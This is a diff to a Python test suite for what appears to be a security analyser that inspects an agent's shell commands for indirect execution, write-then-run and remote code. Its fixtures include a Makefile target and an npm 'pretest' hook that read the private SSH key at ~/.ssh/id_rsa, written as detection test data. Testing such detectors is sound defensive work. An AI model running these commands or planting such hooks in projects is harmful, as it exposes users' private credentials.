@@ -23,6 +23,7 @@ MAKEFILE = "all: build\n\nbuild:\n\t@cat ~/.ssh/id_rsa\n\ndeploy:\n\techo $(shel
 PACKAGE = json.dumps(
     {"name": "a", "scripts": {"pretest": "cat ~/.ssh/id_rsa", "test": "jest", "lint": "eslint ."}}
 )
+ANALYSER = analyser()
 ANA = ("token", "", "ana")
 BOB = ("token", "", "bob")
 
@@ -146,6 +147,8 @@ def test_content_that_nobody_knows_in_full_is_told_to_the_policy():
     assert [
         (one.attr["agent_written"], one.attr["indirect"]) for one in found.operations if one.id == "bash"
     ] == [(True, True)]
+    assert "write_then_run" in found.shell["opaque_reasons"]
+    assert not found.shell["opaque"]
 
 
 def test_a_file_fetched_earlier_is_remote_code_when_it_is_run():
@@ -325,9 +328,10 @@ def test_memory_only_adds_operations(changes):
     talk = Talk()
     for command in ("bash /p/a", "cat /p/d/c; . /p/b", "cp /p/a /p/d/x"):
         event = _event(talk, command)
-        without = analyser().analyse(event)
-        known = analyser().analyse(event, work.view(key(ANA)))
+        without = ANALYSER.analyse(event)
+        known = ANALYSER.analyse(event, work.view(key(ANA)))
         assert _operations(without) <= _operations(known)
+        assert _indirect(without) <= _indirect(known)
         assert set(without.groups) <= set(known.groups)
         assert not without.opaque or known.opaque
 
@@ -340,6 +344,10 @@ def _event(talk: Talk, command: str) -> Any:
 
 def _operations(analysis: Any) -> set[tuple[str, str, str]]:
     return {(one.kind, one.action, one.id) for one in analysis.operations}
+
+
+def _indirect(analysis: Any) -> set[str]:
+    return {one.id for one in analysis.operations if one.kind == "command" and one.attr["indirect"]}
 
 
 def test_nothing_remembered_is_the_same_as_no_memory():
